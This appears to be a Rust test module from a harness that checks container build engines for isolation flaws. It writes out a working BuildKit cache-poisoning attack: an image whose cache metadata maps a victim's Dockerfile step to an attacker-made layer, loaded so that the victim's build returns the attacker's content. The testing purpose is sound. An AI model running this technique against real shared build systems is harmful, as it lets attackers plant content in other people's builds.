//! The engine's own cache, poisoned by one that is imported: the attacker says what a step of the victim's has made.
//!
//! No registry is needed. An image that was loaded can carry a cache, and engines import from the images that they have;
//! those with containerd's store import from registries alone.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

use super::{ALL, Attempt, Failure, GoesWell as _, Sides, records, remove};
use crate::engines::buildkit::build::{Build, built};
use crate::engines::buildkit::client::Reply;
use crate::engines::buildkit::message::Message;
use crate::engines::buildkit::session::Offer;
use crate::engines::generation::Store;
use crate::engines::http::{Framing, ask, request, send};
use crate::engines::setting::Engine;
use crate::engines::tar::{files, tar};

/// Plays on one engine; what failed
pub fn run(engine: &Engine) -> Vec<String> {
    super::play(engine, async |play| {
        let works_on = if engine.store() == Store::Containerd { &[] } else { ALL };
        play.attack("a step of the victim's, by an imported cache", works_on, "the victim has its own", poisoned).await;
    })
}

async fn poisoned(sides: &Sides) -> Attempt {
    let image = Image::made(sides).await?;
    let cache = format!(r#"[{{"Type":"registry","Attrs":{{"ref":"{}"}}}}]"#, image.name());
    let imports = Message::new().with(1, "registry").map(2, &[("ref", &image.name())]);
    let job = Message::new().with(8, Message::new().with(5, imports));
    let taken: Result<String, Reply> = async {
        let build = Build::start_with(&sides.attacker, &dockerfile(sides), job).await?;
        let result = build.dockerfile(&[("cache-imports", &cache)]).await?;
        let seen = build.read(&result, "/out").await?;
        build.end(&result).await?;
        Ok(seen)
    }
    .await;
    let seen = built(&sides.victim, &dockerfile(sides), &[], "/out").await.goes_well("the victim's build")?;
    if seen.contains("evil") {
        return Ok(());
    }
    Err(format!("the victim has its own {seen:?}: {taken:?}").into())
}

/// What the victim will build, and the attacker knows
fn dockerfile(sides: &Sides) -> Offer {
    Offer::dockerfile(&format!("FROM busybox:test\nRUN echo good {} > /out\n", sides.word))
}

/// An image that says of its cache that a layer of the attacker's is what the victim's step makes
struct Image<'a>(&'a Sides);

impl<'a> Image<'a> {
    async fn made(sides: &'a Sides) -> Result<Self, Failure> {
        let archive = of_attackers_own_engine(sides).await?;
        records::forgotten(sides).await?;
        let image = Self(sides);
        let crafted = crafted(&archive, &sides.word, &image.name());
        let attacker = sides.attacker.clone();
        let headers = ["Content-Type: application/x-tar".to_owned()];
        let loaded = tokio::task::spawn_blocking(move || {
            send(&attacker, &request("POST", "/images/load", &headers, &crafted, Framing::Length), 1).remove(0)
        });
        let loaded = loaded.await.goes_well("loading")?;
        if loaded.is_success() { Ok(image) } else { Err(Failure::Unplayed(loaded.text())) }
    }

    fn name(&self) -> String {
        format!("docker.io/library/{}evil:1", self.0.word)
    }
}

impl Drop for Image<'_> {
    fn drop(&mut self) {
        remove(&self.0.engine, &format!("/images/{}?force=1", self.name()));
    }
}

/// The image and its cache as the Dockerfile makes them; the attacker has an engine of the same kind for that
async fn of_attackers_own_engine(sides: &Sides) -> Result<Vec<u8>, Failure> {
    let named = [("name", sides.word.as_str())];
    let exporter = Message::new().with(1, "moby").map(2, &named);
    let inline = Message::new().with(4, Message::new().with(1, "inline").with(2, ""));
    let job = Message::new().with(3, "moby").map(4, &named).with(13, exporter).with(8, inline);
    let build =
        Build::start_with(&sides.engine, &dockerfile(sides), job).await.goes_well("the attacker's own build")?;
    let result = build.dockerfile(&[]).await.goes_well("the attacker's own Dockerfile")?;
    build.end(&result).await.goes_well("the attacker's own image")?;
    let (engine, name) = (sides.engine.clone(), sides.word.clone());
    let saved = tokio::task::spawn_blocking(move || {
        let saved = ask(&engine, "GET", &format!("/images/{name}/get"), "").body;
        remove(&engine, &format!("/images/{name}?force=1"));
        saved
    });
    saved.await.goes_well("saving")
}

/// The same image with another last layer
fn crafted(archive: &[u8], word: &str, name: &str) -> Vec<u8> {
    let files = files(archive);
    let file = |name: &str| files.iter().find(|(known, _)| known == name).map(|(_, content)| *content).unwrap();
    let saved: Value = serde_json::from_slice(file("manifest.json")).unwrap();
    let named = |at: &str| file(saved.pointer(at).and_then(Value::as_str).unwrap());
    let mut config: Value = serde_json::from_slice(named("/0/Config")).unwrap();
    let evil = tar(&[("out", format!("evil {word}\n").as_bytes())]);
    config["rootfs"]["diff_ids"][1] =
        json!(Sha256::digest(&evil).iter().fold("sha256:".to_owned(), |text, byte| format!("{text}{byte:02x}")));
    let cache = STANDARD.decode(config["moby.buildkit.cache.v0"].as_str().unwrap()).unwrap();
    assert!(String::from_utf8_lossy(&cache).contains(r#""layer":1"#), "layers are told by their place");
    let manifest = json!([{"Config": "config.json", "RepoTags": [name], "Layers": ["0.tar", "1.tar"]}]);
    tar(&[
        ("config.json", config.to_string().as_bytes()),
        ("0.tar", named("/0/Layers/0")),
        ("1.tar", &evil),
        ("manifest.json", manifest.to_string().as_bytes()),
    ])
}
